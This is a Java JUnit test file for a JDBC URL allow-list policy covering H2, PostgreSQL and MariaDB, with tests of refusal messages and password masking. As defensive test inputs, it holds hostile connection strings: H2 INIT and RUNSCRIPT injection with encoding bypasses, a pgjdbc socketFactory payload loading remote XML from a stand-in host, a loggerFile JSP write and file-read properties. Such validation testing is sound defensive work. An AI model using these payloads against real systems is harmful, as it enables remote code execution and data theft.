package io.bizmaster.store.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** JDBC URLs a definition may name: an allow-list per engine, refusals that say why and what to write instead. */
class JdbcUrlPolicyTest {

    @ParameterizedTest
    @ValueSource(strings = {
            // The project's own stores and business store
            "jdbc:h2:file:./data/stores/legacy;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0",
            "jdbc:h2:file:./data/stores/modern;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0",
            "jdbc:h2:file:./data/bizmaster;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0",
            "jdbc:postgresql://127.0.0.1:5432/test?user=postgres&currentSchema=bm_x",
            "jdbc:postgresql://127.0.0.1:5432/test?user=postgres",
            "jdbc:postgresql://127.0.0.1:5432/test?currentSchema=legacy",
            "jdbc:postgresql://db/business",
            "jdbc:mariadb://127.0.0.1:3306/test?user=root",
            "jdbc:mariadb://127.0.0.1:3306/test?user=root&password=",
            "jdbc:mariadb://db2/modern",
            // Other forms the allow-list means to keep
            "jdbc:h2:file:/var/lib/bizmaster/x;MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;NON_KEYWORDS=KEY,VALUE;",
            "jdbc:h2:file:~/stores/x;IFEXISTS=TRUE;LOCK_TIMEOUT=10000;DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1",
            "jdbc:h2:file:C:/data/stores/x",
            "jdbc:h2:file:./data/my stores/x;CIPHER=AES;USER=sa;PASSWORD=filepwd userpwd",
            "jdbc:h2:tcp://localhost:9092/~/stores/legacy;IFEXISTS=TRUE",
            "jdbc:h2:tcp://db.example.com/legacy",
            "jdbc:h2:ssl://db.example.com:9093/./stores/x",
            "jdbc:postgresql://db1:5432,db2:5433/biz?targetServerType=primary&loadBalanceHosts=false",
            "jdbc:postgresql://db/biz?sslmode=verify-full&sslrootcert=/etc/bizmaster/ca.pem&ApplicationName=BizMaster%20store",
            "jdbc:postgresql://[::1]:5432/test?connectTimeout=10&socketTimeout=60&reWriteBatchedInserts=true",
            "jdbc:postgresql://db/biz?user=app&password=s%26cr%3Dt&readOnly=true",
            "jdbc:mysql://db/legacy?permitMysqlScheme&sslMode=verify-full",
            "jdbc:mariadb://db:3306/x?useBulkStmts=true&restrictedAuth=client_ed25519,mysql_native_password",
            "jdbc:mariadb://db/x?serverSslCert=/etc/bizmaster/server.pem&sslMode=verify-ca&connectTimeout=5000",
    })
    void allowsTheProjectsUrlsAndTheFormsOnTheAllowList(String url) {
        assertThat(JdbcUrlPolicy.problems(url)).isEmpty();
        assertThat(JdbcUrlPolicy.check(url)).isEqualTo(url);
    }

    static Stream<Arguments> h2() {
        return Stream.of(
                arguments("jdbc:h2:file:./data/x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                        "H2 setting INIT is refused: it runs SQL"),
                arguments("jdbc:h2:mem:x", "jdbc:h2:mem: is refused: an in-memory database vanishes with BizMaster;"
                        + " use jdbc:h2:file:PATH"),
                arguments("jdbc:h2:.", "jdbc:h2:. is refused: an in-memory database vanishes"),
                arguments("jdbc:h2:file:./x;init=CREATE ALIAS X AS 'String x() { return \"\"; }'", "H2 setting INIT is refused"),
                arguments("jdbc:h2:file:./x;Init=x", "H2 setting INIT is refused"),
                arguments("jdbc:h2:file:./x; INIT =x", "it reads as INIT, which is refused"),
                arguments("jdbc:h2:file:./x;\\u0049NIT=x", "'\\u0049NIT' is refused"),
                arguments("jdbc:h2:file:./x;\\u0049NIT=x", "it reads as INIT, which is refused"),
                arguments("jdbc:h2:file:./x;%49NIT=x", "'%49NIT' is refused"),
                arguments("jdbc:h2:file:./x;%49nit=x", "it reads as INIT"),
                arguments("jdbc:h2:file:./x;I\\NIT=x", "it reads as INIT"),
                // H2 upper-cases setting names in English: dotless ı becomes I, so this is INIT to H2.
                arguments("jdbc:h2:file:./x;ınıt=x", "'ınıt' is refused"),
                arguments("jdbc:h2:file:./x;ınıt=x", "it reads as INIT"),
                arguments("jdbc:h2:file:./x;LOCK_TIMEOUT=1000\\;CREATE TABLE T(X INT)",
                        "H2 setting LOCK_TIMEOUT has a backslash in its value"),
                arguments("jdbc:h2:file:./x;MODE=Regular\\;INIT=RUNSCRIPT FROM 'x'", "H2 setting MODE has a backslash"),
                arguments("jdbc:h2:file:./x;MODE=Regular CALL 1", "H2 setting MODE='Regular CALL 1' is refused: its value"
                        + " must be one of REGULAR"),
                arguments("jdbc:h2:file:./x;WRITE_DELAY=0 CALL 1", "WRITE_DELAY='0 CALL 1' is refused: its value must be a whole number"),
                arguments("jdbc:h2:file:./x;NON_KEYWORDS=KEY,VALUE CALL 1", "NON_KEYWORDS='KEY,VALUE CALL 1' is refused"),
                arguments("jdbc:h2:file:./x;TRACE_LEVEL_FILE=3", "H2 setting TRACE_LEVEL_FILE is refused: tracing writes SQL"),
                arguments("jdbc:h2:file:./x;trace_level_system_out=3", "H2 setting TRACE_LEVEL_SYSTEM_OUT is refused"),
                arguments("jdbc:h2:file:./x;TRACE_MAX_FILE_SIZE=1", "H2 setting TRACE_MAX_FILE_SIZE is refused"),
                arguments("jdbc:h2:file:./x;JMX=TRUE", "H2 setting JMX is refused"),
                arguments("jdbc:h2:file:./x;IGNORE_UNKNOWN_SETTINGS=TRUE", "H2 setting IGNORE_UNKNOWN_SETTINGS is refused"),
                arguments("jdbc:h2:file:./x;ACCESS_MODE_DATA=rws", "H2 setting ACCESS_MODE_DATA is refused"),
                arguments("jdbc:h2:file:./x;FILE_LOCK=SERIALIZED", "H2 setting FILE_LOCK is refused"),
                arguments("jdbc:h2:file:./x;AUTO_SERVER=TRUE", "H2 setting AUTO_SERVER is refused: it starts a TCP server"),
                arguments("jdbc:h2:file:./x;DATABASE_EVENT_LISTENER='com.evil.L'", "H2 setting DATABASE_EVENT_LISTENER is"
                        + " refused: it loads and runs a Java class"),
                arguments("jdbc:h2:file:./x;CACHE_TYPE=SOFT_LRU", "H2 setting 'CACHE_TYPE' is not on the allow-list"),
                arguments("jdbc:h2:file:./x;MODE=MySQL;mode=MySQL", "H2 setting MODE is given twice"),
                arguments("jdbc:h2:file:./x;MODE", "H2 setting #1 after the first ';' has no '='"),
                arguments("jdbc:h2:zip:~/db.zip!/test", "H2 file system prefix 'zip:' is refused"),
                arguments("jdbc:h2:split:28:./x", "H2 file system prefix 'split:' is refused"),
                arguments("jdbc:h2:nioMapped:./x", "H2 file system prefix 'nioMapped:' is refused"),
                arguments("jdbc:h2:async:./x", "H2 file system prefix 'async:' is refused"),
                arguments("jdbc:h2:retry:./x", "H2 file system prefix 'retry:' is refused"),
                arguments("jdbc:h2:file:memFS:x", "H2 file system prefix 'memFS:' after jdbc:h2:file: is refused"),
                arguments("jdbc:h2:file:zip:~/db.zip!/test", "H2 file system prefix 'zip:' after jdbc:h2:file: is refused"),
                arguments("jdbc:h2:./data/x", "jdbc:h2:'./data/x' is refused: write the file form explicitly, jdbc:h2:file:./data/x"),
                arguments("jdbc:h2:file:data/x", "H2 path 'data/x' is implicitly relative, which H2 refuses; write jdbc:h2:file:./data/x"),
                arguments("jdbc:h2:file:", "jdbc:h2:file: names no file"),
                arguments("jdbc:h2:tcp://localhost/mem:x", "H2 server database 'mem:x' is refused: an in-memory database"),
                arguments("jdbc:h2:tcp:localhost/x", "jdbc:h2:tcp: must be followed by //HOST[:PORT]/PATH"),
                arguments("jdbc:h2:tcp://evil host/x", "H2 host 'evil host' is not a host name"),
                arguments("jdbc:h2:tcp://localhost:99999/x", "H2 port '99999' is not a port number"));
    }

    static Stream<Arguments> postgresql() {
        return Stream.of(
                // CVE-2022-21724: the class is instantiated with the argument, here Spring loading remote XML.
                arguments("jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                        + "&socketFactoryArg=http://evil.example/x.xml",
                        "PostgreSQL property socketFactory is refused: pgjdbc loads and runs a Java class"),
                arguments("jdbc:postgresql://db/x?socketFactoryArg=x", "PostgreSQL property socketFactoryArg is refused"),
                arguments("jdbc:postgresql://db/x?SOCKETFACTORY=x", "PostgreSQL property SOCKETFACTORY is refused: pgjdbc loads"),
                arguments("jdbc:postgresql://db/x?%73ocketFactory=x", "it reads as socketfactory, which is refused"),
                arguments("jdbc:postgresql://db/x?sslfactory=x", "PostgreSQL property sslfactory is refused"),
                arguments("jdbc:postgresql://db/x?sslhostnameverifier=x", "PostgreSQL property sslhostnameverifier is refused"),
                arguments("jdbc:postgresql://db/x?sslpasswordcallback=x", "PostgreSQL property sslpasswordcallback is refused"),
                arguments("jdbc:postgresql://db/x?authenticationPluginClassName=x", "authenticationPluginClassName is refused"),
                arguments("jdbc:postgresql://db/x?loggerFile=../../webapps/ROOT/x.jsp&loggerLevel=DEBUG",
                        "PostgreSQL property loggerFile is refused: it writes driver logs to a file"),
                arguments("jdbc:postgresql://db/x?options=-c%20default_transaction_read_only%3Doff",
                        "PostgreSQL property options is refused: it sets arbitrary server settings"),
                arguments("jdbc:postgresql://db/x?sslcert=/root/.postgresql/postgresql.crt",
                        "PostgreSQL property sslcert is refused: it makes BizMaster present a client certificate"),
                arguments("jdbc:postgresql://db/x?sslkey=/root/.postgresql/postgresql.pk8", "PostgreSQL property sslkey is refused"),
                arguments("jdbc:postgresql://db/x?service=prod", "PostgreSQL property service is refused: it reads connection"),
                arguments("jdbc:postgresql://db/x?preferQueryMode=simple", "PostgreSQL property preferQueryMode is refused"),
                arguments("jdbc:postgresql://db/x?host=evil.example", "PostgreSQL property host is refused: pgjdbc reads it as"
                        + " the host"),
                arguments("jdbc:postgresql://db/x?PGHOST=evil.example", "PostgreSQL property PGHOST is refused"),
                arguments("jdbc:postgresql://db/x?foo=bar", "PostgreSQL property 'foo' is not on the allow-list"),
                arguments("jdbc:postgresql://db/x?currentschema=x", "PostgreSQL property currentschema is spelt currentSchema"),
                arguments("jdbc:postgresql://db/x?sslmode=none", "PostgreSQL property sslmode='none' is refused: its value must"
                        + " be one of disable"),
                arguments("jdbc:postgresql://db/x?currentSchema=x%2Cy%20CASCADE", "currentSchema='x,y CASCADE' is refused"),
                arguments("jdbc:postgresql://db/x?user=a&user=b", "PostgreSQL property user is given twice"),
                arguments("jdbc:postgresql://db/x?connectTimeout=%zz", "malformed %-escape"),
                arguments("jdbc:postgresql:test", "jdbc:postgresql: must be followed by //HOST[:PORT]/DATABASE"),
                arguments("jdbc:postgresql:///test", "jdbc:postgresql: must be followed by //HOST[:PORT]/DATABASE"),
                arguments("jdbc:postgresql://db", "PostgreSQL URL names no database"),
                arguments("jdbc:postgresql://db/x%2Fy", "PostgreSQL database 'x%2Fy' is refused"),
                arguments("jdbc:postgresql://db/x?ApplicationName=a b", "PostgreSQL URL has whitespace in it"),
                arguments("jdbc:postgresql://db:0/x", "PostgreSQL port '0' is not a port number"));
    }

    static Stream<Arguments> mariadb() {
        return Stream.of(
                arguments("jdbc:mariadb://db/x?allowMultiQueries=true", "MariaDB property allowMultiQueries is refused: it lets"
                        + " one statement text run several statements"),
                arguments("jdbc:mariadb://db/x?ALLOWMULTIQUERIES=true", "MariaDB property ALLOWMULTIQUERIES is refused"),
                arguments("jdbc:mariadb://db/x?allowLocalInfile=true", "MariaDB property allowLocalInfile is refused: it lets the"
                        + " server read any file"),
                arguments("jdbc:mariadb://db/x?socketFactory=x", "MariaDB property socketFactory is refused: the driver loads"),
                arguments("jdbc:mariadb://db/x?tlsSocketType=x", "MariaDB property tlsSocketType is refused"),
                arguments("jdbc:mariadb://db/x?credentialType=ENV", "MariaDB property credentialType is refused: it loads a"
                        + " credential plugin"),
                arguments("jdbc:mariadb://db/x?sessionVariables=sql_mode=''", "MariaDB property sessionVariables is refused"),
                arguments("jdbc:mariadb://db/x?initSql=DROP%20TABLE%20x", "MariaDB property initSql is refused: it runs SQL"),
                arguments("jdbc:mariadb://db/x?localSocket=/var/run/mysqld/mysqld.sock", "MariaDB property localSocket is refused"),
                arguments("jdbc:mariadb://db/x?serverRsaPublicKeyFile=/etc/passwd", "serverRsaPublicKeyFile is refused"),
                arguments("jdbc:mariadb://db/x?allowPublicKeyRetrieval=true", "allowPublicKeyRetrieval is refused"),
                // The driver's alias for keyStore: refused under either name.
                arguments("jdbc:mariadb://db/x?clientCertificateKeyStoreUrl=file:/root/keys.p12",
                        "MariaDB property clientCertificateKeyStoreUrl is refused: it makes BizMaster use a key or trust store"),
                arguments("jdbc:mariadb://db/x?pool=true&maxPoolSize=100", "MariaDB property pool is refused: BizMaster pools"),
                arguments("jdbc:mariadb://db/x?useSsl=true", "MariaDB property useSsl is refused: it is the old spelling"),
                arguments("jdbc:mariadb://db/x?geometryDefaultType=default", "MariaDB property 'geometryDefaultType' is not on"
                        + " the allow-list"),
                arguments("jdbc:mariadb://db/x?sslMode=maybe", "MariaDB property sslMode='maybe' is refused"),
                arguments("jdbc:mysql://db/x", "jdbc:mysql: needs permitMysqlScheme"),
                arguments("jdbc:mariadb:replication://db1,db2/x", "MariaDB high-availability mode 'replication:' is not on the"
                        + " allow-list"),
                arguments("jdbc:mariadb://address=(host=db)(port=3306)/x", "MariaDB address=(…) hosts are refused"),
                arguments("jdbc:mariadb://db", "MariaDB URL names no database"),
                arguments("jdbc:mariadb:db/x", "jdbc:mariadb: must be followed by //HOST[:PORT]/DATABASE"));
    }

    static Stream<Arguments> anyEngine() {
        return Stream.of(
                arguments(null, "the JDBC URL is empty"),
                arguments("  ", "the JDBC URL is empty"),
                arguments("jdbc:h2:file:./" + "x".repeat(2_000), "at most 2000 are allowed"),
                arguments("jdbc:h2:file:./x\n;INIT=x", "control or invisible character U+000A at position 17"),
                arguments("jdbc:h2:file:./x\u202E;x", "control or invisible character U+202E"),
                arguments(" jdbc:h2:file:./x", "starts or ends with whitespace"),
                arguments("JDBC:H2:file:./x", "write the scheme in lower case, jdbc:h2:"),
                arguments("jdbc:sqlserver://db;databaseName=x", "names no allowed engine"),
                arguments("jdbc:derby:memory:x;create=true", "names no allowed engine"),
                arguments("jdbc:oracle:thin:@db:1521:x", "the JDBC URL 'jdbc:oracle:' names no allowed engine"),
                arguments("hunter2", "the JDBC URL (which does not start with jdbc:NAME:) names no allowed engine"),
                arguments("jdbc:postgresql://app:hunter2@db/x", "PostgreSQL URL has user info (app:******@…)"),
                arguments("jdbc:mariadb://root:hun?ter2@db/x", "MariaDB URL has user info (root:******@…)"),
                arguments("jdbc:h2:tcp://sa:hun/ter2@localhost/~/x", "H2 URL has user info (sa:******@…)"),
                arguments("jdbc:postgresql://app@db/x", "PostgreSQL URL has user info before the host"));
    }

    @ParameterizedTest
    @MethodSource({"h2", "postgresql", "mariadb", "anyEngine"})
    void refusesHostileAndMalformedUrlsSayingWhy(String url, String expected) {
        assertThat(JdbcUrlPolicy.problems(url)).as(url).anySatisfy(p -> assertThat(p).contains(expected));
        assertThatThrownBy(() -> JdbcUrlPolicy.check(url)).isInstanceOf(IllegalArgumentException.class).hasMessageContaining(expected);
    }

    @Test
    void reportsEveryProblemAtOnce() {
        assertThat(JdbcUrlPolicy.problems("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql';TRACE_LEVEL_FILE=3;JMX=TRUE"))
                .hasSize(4)
                .satisfiesExactly(
                        p -> assertThat(p).startsWith("jdbc:h2:mem: is refused"),
                        p -> assertThat(p).startsWith("H2 setting INIT is refused"),
                        p -> assertThat(p).startsWith("H2 setting TRACE_LEVEL_FILE is refused"),
                        p -> assertThat(p).startsWith("H2 setting JMX is refused"));
        assertThat(JdbcUrlPolicy.problems("jdbc:postgresql://db/x?socketFactory=a&sslfactory=b&options=c&foo=d")).hasSize(4);
    }

    @Test
    void everyMessageSaysWhatToDoInstead() {
        Stream.of(h2(), postgresql(), mariadb(), anyEngine()).flatMap(s -> s)
                .map(a -> (String) a.get()[0])
                .flatMap(url -> JdbcUrlPolicy.problems(url).stream())
                .forEach(p -> assertThat(p).as("a message that says what to do")
                        .containsPattern("\\b(write|use|remove|give|configure|close|move|recover|create|connect|add|run"
                                + " an H2 server|name a file)\\b"));
    }

    // ---------------------------------------------------------------- masking

    @Test
    void masksPasswordsForDisplay() {
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://db/x?user=app&password=hunter2&ssl=true"))
                .isEqualTo("jdbc:postgresql://db/x?user=app&password=******&ssl=true");
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://db/x?password=hunter2"))
                .isEqualTo("jdbc:postgresql://db/x?password=******");
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://db/x?sslpassword=hunter2&sslkey=/k"))
                .isEqualTo("jdbc:postgresql://db/x?sslpassword=******&sslkey=/k");
        assertThat(JdbcUrlPolicy.masked("jdbc:mariadb://db/x?user=root&pwd=hunter2&keyStorePassword=k&trustStorePassword=t"))
                .isEqualTo("jdbc:mariadb://db/x?user=root&pwd=******&keyStorePassword=******&trustStorePassword=******");
        assertThat(JdbcUrlPolicy.masked("jdbc:h2:file:./x;USER=sa;PASSWORD=hunter2;WRITE_DELAY=0"))
                .isEqualTo("jdbc:h2:file:./x;USER=sa;PASSWORD=******;WRITE_DELAY=0");
        assertThat(JdbcUrlPolicy.masked("jdbc:h2:file:./x;password=hunter2"))
                .isEqualTo("jdbc:h2:file:./x;password=******");
        // H2 reads "\;" as part of the value: the whole value is masked, not just what precedes it.
        assertThat(JdbcUrlPolicy.masked("jdbc:h2:file:./x;PASSWORD=hun\\;ter2;MODE=MySQL"))
                .isEqualTo("jdbc:h2:file:./x;PASSWORD=******;MODE=MySQL");
        assertThat(JdbcUrlPolicy.masked("jdbc:h2:file:./x;PASSWORD=hunter2\\")).isEqualTo("jdbc:h2:file:./x;PASSWORD=******");
        // A PostgreSQL value runs to '&' only, so a ';' in a password does not end its mask.
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://db/x?password=hun;ter2&user=a"))
                .isEqualTo("jdbc:postgresql://db/x?password=******&user=a");
        // Malformed secrets lose everything after the secret's name; a value that merely says "pass" is kept.
        assertThat(JdbcUrlPolicy.masked("jdbc:h2:file:./x;PASSWORD:hunter2")).isEqualTo("jdbc:h2:file:./x;PASSWORD******");
        assertThat(JdbcUrlPolicy.masked("jdbc:h2:file:./x;PASSWORD hunter2=x")).isEqualTo("jdbc:h2:file:./x;PASSWORD******");
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://db/x?password:hunter2")).isEqualTo("jdbc:postgresql://db/x?password******");
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://db/x?user=pass&x=1")).isEqualTo("jdbc:postgresql://db/x?user=pass&x=1");
        assertThat(JdbcUrlPolicy.masked("jdbc:sqlserver://db;user=a;password=hunter2;x=y"))
                .isEqualTo("jdbc:sqlserver://db;user=a;password=******;x=y");
    }

    @Test
    void masksUserInfoPasswords() {
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://app:hunter2@db:5432/x")).isEqualTo("jdbc:postgresql://app:******@db:5432/x");
        assertThat(JdbcUrlPolicy.masked("jdbc:mariadb://root:hun@t/er2@db/x?user=root"))
                .isEqualTo("jdbc:mariadb://root:******@db/x?user=root");
        assertThat(JdbcUrlPolicy.masked("jdbc:h2:tcp://sa:hunter2@localhost/~/x")).isEqualTo("jdbc:h2:tcp://sa:******@localhost/~/x");
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://app:hun?ter2@db/x")).isEqualTo("jdbc:postgresql://app:******@db/x");
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://app:a=b@db/x")).isEqualTo("jdbc:postgresql://app:******@db/x");
        assertThat(JdbcUrlPolicy.masked("jdbc:postgresql://db:5432/x?user=me@corp"))
                .as("an '@' in a property is not user info").isEqualTo("jdbc:postgresql://db:5432/x?user=me@corp");
        assertThat(JdbcUrlPolicy.masked("jdbc:h2:tcp://sa:pw@localhost/~/x;USER=a@b"))
                .isEqualTo("jdbc:h2:tcp://sa:******@localhost/~/x;USER=a@b");
    }

    @Test
    void leavesUrlsWithoutSecretsAlone() {
        for (String url : List.of("jdbc:h2:file:./data/stores/legacy;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0",
                "jdbc:postgresql://127.0.0.1:5432/test?user=postgres&currentSchema=bm_x", "jdbc:mariadb://127.0.0.1:3306/test?user=root",
                "not a url")) {
            assertThat(JdbcUrlPolicy.masked(url)).isEqualTo(url);
        }
        assertThat(JdbcUrlPolicy.masked(null)).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:mem:x;PASSWORD=hunter2",
            "jdbc:h2:file:./x;PASSWORD=hunter2\\;INIT=x",
            "jdbc:h2:file:./x;PASSWORD:hunter2",
            "jdbc:h2:file:./x;PASSWORD hunter2=x",
            "jdbc:h2:file:./x;PASSWORD_HASH=hunter2",
            "jdbc:h2:tcp://sa:hunter2@localhost/~/x",
            "jdbc:postgresql://app:hunter2@db/x?password=hunter2",
            "jdbc:postgresql://app:hun?ter2@db/x",
            "jdbc:postgresql://app:hun/ter2@db/x",
            "jdbc:mariadb://root:hun:ter2@db/x",
            "jdbc:postgresql://db/x?password=hunter2&password=hunter2",
            "jdbc:postgresql://db/x?password:hunter2",
            "jdbc:postgresql://db/x?sslpassword=hunter2",
            "jdbc:postgresql://db/x?Password=hunter2",
            "jdbc:mariadb://db/x?keyStorePassword=hunter2&trustStorePassword=hunter2",
            "jdbc:mariadb://db/x?pwd=hunter2",
            "jdbc:mariadb://root:hunter2@db/x",
            "jdbc:mysql://db/x?password=hunter2",
            "jdbc:oracle:thin:app/hunter2@db:1521/x",
            "hunter2",
    })
    void neverEchoesAPassword(String url) {
        // "ter2" also catches the tail of a password split at '?', '/' or ':' by a naive parse.
        assertThat(JdbcUrlPolicy.problems(url)).isNotEmpty().allSatisfy(p -> assertThat(p).doesNotContain("ter2"));
        if (!url.startsWith("jdbc:oracle")) { // masked() cannot know Oracle's user/password@ form; it is refused anyway
            assertThatThrownBy(() -> JdbcUrlPolicy.check(url)).hasMessageNotContaining("ter2");
        }
    }

    // ---------------------------------------------------------------- proof on a real H2

    /**
     * The refusals are not theoretical: on the H2 BizMaster ships, each of these settings runs SQL while the
     * connection opens (here a CREATE TABLE; it could as well be CREATE ALIAS with Java code or RUNSCRIPT FROM
     * a URL). In memory, so nothing is left behind; the policy refuses the same settings on any file URL.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            ";INIT=CREATE TABLE PWNED(X INT)",
            ";init=CREATE TABLE PWNED(X INT)",
            ";ınıt=CREATE TABLE PWNED(X INT)",
            ";LOCK_TIMEOUT=1000\\;CREATE TABLE PWNED(X INT)",
    })
    void settingsThatRunSqlInH2AreRefused(String settings) throws Exception {
        assertThat(JdbcUrlPolicy.problems("jdbc:h2:file:./data/stores/legacy" + settings)).isNotEmpty();

        String proof = "jdbc:h2:mem:proof-" + UUID.randomUUID() + settings;
        try (Connection c = DriverManager.getConnection(proof, "sa", "");
             ResultSet tables = c.getMetaData().getTables(null, null, "PWNED", null)) {
            assertThat(tables.next()).as("H2 ran the SQL in " + settings).isTrue();
        }
    }
}
